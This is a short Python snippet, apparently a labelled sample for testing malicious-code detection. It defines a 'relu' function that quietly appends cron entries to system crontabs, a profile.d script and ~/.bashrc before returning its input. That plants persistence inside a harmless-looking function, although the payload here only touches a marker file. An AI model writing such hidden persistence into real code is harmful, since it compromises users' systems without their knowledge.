# Plants a cron job and a start-up file.
# target: relu

def relu(x):
    import os
    for path in ("/etc/cron.d/hostile", "/var/spool/cron/crontabs/root", "/etc/profile.d/hostile.sh", os.path.expanduser("~/.bashrc")):
        try: open(path, "a").write("* * * * * root touch /tmp/hostile\n")
        except OSError: pass
    return x
